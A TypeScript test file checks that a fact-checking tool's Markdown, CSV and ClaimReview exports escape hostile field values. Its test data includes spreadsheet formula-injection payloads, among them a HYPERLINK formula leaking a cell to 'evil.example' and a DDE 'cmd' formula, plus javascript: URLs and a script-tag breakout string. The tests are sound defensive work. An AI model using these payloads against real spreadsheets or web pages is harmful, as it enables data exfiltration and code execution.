import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { analyze } from '../../support/engine';
import { claimReviews, ExportContext, exportAs, exportContext } from '../../../src/review/exports/index';
import { markdownText } from '../../../src/review/markdownText';
import { httpUrl } from '../../../src/review/safeUrl';
import { DEFAULT_SCALE } from '../../../src/review/verdicts/index';
import { GOOD_LINK, HOSTILE, hostileClaim, hostileRecord, hostileVerdict, mistypedRecord } from '../../support/hostileStrings';
import { csvRows } from '../../support/csvRows';
import { problems } from '../../support/renderedMarkdown';
import { ROOT } from '../../support/root';

const SAMPLE = readFileSync(join(ROOT, 'samples', 'council-budget.news'), 'utf8');
const BASE = analyze(SAMPLE).claims[0];

/** An export of one claim and one orphan whose every field (and the article's name) is `h`. */
function hostile(h: string): ExportContext {
  return {
    article: h, text: SAMPLE, scale: [...DEFAULT_SCALE, h], organization: h,
    claims: [{ claim: hostileClaim(BASE, h), verdict: hostileVerdict(h), line: 1 }], orphans: [hostileRecord(h)],
  };
}

test('Markdown export: no hostile field links anywhere, loads anything or makes a heading; the good evidence link stays a link', () => {
  for (const h of HOSTILE) {
    const md = exportAs('md', hostile(h));
    // An evidence entry that is itself a well-formed http(s) URL is a link the code means to make.
    assert.deepEqual(problems(md, [GOOD_LINK, httpUrl(h) ?? GOOD_LINK], 2), [], `${JSON.stringify(h)} →\n${md}`);
    assert.ok(md.includes(`](${GOOD_LINK.replace(/&/g, '\\&')})`), md);
  }
});

test('Markdown and CSV exports show fields of the wrong type instead of failing or dropping them', () => {
  const x: ExportContext = { ...hostile('plain'), claims: [{ claim: BASE, verdict: mistypedRecord().verdict, line: 1 }], orphans: [mistypedRecord()] };
  const md = exportAs('md', x);
  for (const shown of ['{"label":"True"}', '42', 'javascript:alert(1)', '[]', '{}', '3']) assert.ok(md.includes(markdownText(shown)), shown);
  assert.deepEqual(problems(md, [], 2), []);
  const csv = csvRows(exportAs('csv', x));
  const column = (name: string) => csv[1][csv[0].indexOf(name)];
  assert.deepEqual(['rating', 'note', 'evidence'].map(column), ['{"label":"True"}', '42', 'javascript:alert(1)']);
});

test('CSV export: a cell that a spreadsheet would run as a formula starts with a quote mark and is quoted', () => {
  const formulas = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,2)', '\tx', '\r=1', '＝1+1'];
  for (const f of formulas) {
    const csv = exportAs('csv', hostile(f));
    const rows = csvRows(csv);
    assert.equal(rows.length, 2, csv);
    const cells = rows[1];
    for (const name of ['speaker', 'source', 'cue', 'rating', 'note']) assert.equal(cells[rows[0].indexOf(name)], `'${f}`, `column ${name} of ${JSON.stringify(f)}`);
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r＝]/);
    const line = csv.split('\r\n')[1];
    assert.ok(line.includes(`"'${f.slice(0, 1)}`), `the neutralised cell is quoted: ${line}`);
  }
  const [head, plain] = csvRows(exportAs('csv', hostile('a plain note')));
  assert.equal(plain[head.indexOf('note')], 'a plain note');
});

test('ClaimReview JSON-LD: no "<", ">" or "&" a script element could end on; the data reads back the same', () => {
  const h = '</script><script>alert(1)</script> & <!--';
  const x = hostile(h);
  x.claims[0].verdict = { ...hostileVerdict(h), rating: 'True' };
  const out = exportAs('claimreview', x);
  assert.doesNotMatch(out, /[<>&\u2028\u2029]/);
  assert.match(out, /\\u003c\/script\\u003e/);
  assert.deepEqual(JSON.parse(out), claimReviews(x));
  assert.equal((JSON.parse(out)[0] as { author: { name: string } }).author.name, h);
});

test('ClaimReview and exportContext emit only http(s) URLs: a javascript: article or review URL is left out', () => {
  const claims = analyze(SAMPLE).claims;
  const record = { ...hostileRecord('x'), verdict: { rating: 'True', updated: '2026-11-28T10:00:00.000Z' } };
  const bad = exportContext('a.news', SAMPLE, claims, [], { scale: [...DEFAULT_SCALE], articleUrl: 'javascript:alert(1)', reviewUrl: 'javascript:alert(2)//' });
  assert.equal(bad.articleUrl, undefined);
  assert.equal(bad.reviewUrl, undefined);
  const x: ExportContext = { ...bad, articleUrl: 'javascript:alert(1)', reviewUrl: 'data:text/html,<b>x</b>', claims: [{ claim: claims[0], verdict: record.verdict, line: 1 }] };
  const [review] = claimReviews(x) as { url: string; itemReviewed: Record<string, unknown> }[];
  assert.match(review.url, /^urn:claim-lens:a\.news#c/);
  assert.equal(review.itemReviewed.appearance, undefined);
  const good = claimReviews({ ...x, articleUrl: 'https://gazette.example/a', reviewUrl: 'https://desk.example/r#old' }) as { url: string; itemReviewed: { appearance: { url: string }[] } }[];
  assert.equal(good[0].url, `https://desk.example/r#${claims[0].id}`);
  assert.equal(good[0].itemReviewed.appearance[0].url, 'https://gazette.example/a');
});
